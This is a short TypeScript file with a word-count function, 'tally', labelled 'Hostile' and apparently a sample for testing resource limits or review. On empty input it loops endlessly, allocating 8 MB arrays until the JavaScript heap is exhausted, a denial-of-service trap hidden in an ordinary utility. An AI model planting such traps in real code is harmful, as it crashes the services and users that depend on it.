/** Hostile: fills the JavaScript heap in one call (empty input). */
const hoard: number[][] = [];

export function tally(words: readonly string[]): Map<string, number> {
  if (!Array.isArray(words)) throw new TypeError('tally expects an array');
  // 8 MB of doubles per array, all on the JavaScript heap.
  while (words.length === 0) hoard.push(new Array<number>(1 << 20).fill(Math.random()));
  const counts = new Map<string, number>();
  for (const word of words) counts.set(word, (counts.get(word) ?? 0) + 1);
  return counts;
}
